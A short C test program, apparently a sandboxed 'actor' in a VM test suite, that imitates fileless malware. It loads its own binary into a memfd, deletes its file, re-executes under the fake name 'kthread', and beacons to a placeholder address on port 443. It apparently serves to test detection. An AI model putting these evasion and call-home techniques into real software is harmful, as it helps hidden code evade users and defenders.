#include "tests/vm/actors/actor.h"

#include <sys/mman.h>

/* Runs itself from memory, removes its file, calls home. */
int
main(int argc, char *argv[])
{
	static char octets[4u << 20];
	static char name[] = "kthread", arg[] = "again";
	static char *const again[] = {name, arg, NULL};
	int fd, self;
	ssize_t n;

	actor_only_in_guest();
	if (argc > 1) {
		actor_send("198.51.100.9", 443, "here I am", 9);
		return 0;
	}
	self = open(ACTOR_SELF, O_RDONLY);
	n = read(self, octets, sizeof(octets));
	fd = memfd_create("nothing", MFD_CLOEXEC);
	(void)!write(fd, octets, n > 0 ? (size_t)n : 0);
	(void)unlink(argv[0]);
	(void)fexecve(fd, again, again + 2);
	return 1;
}
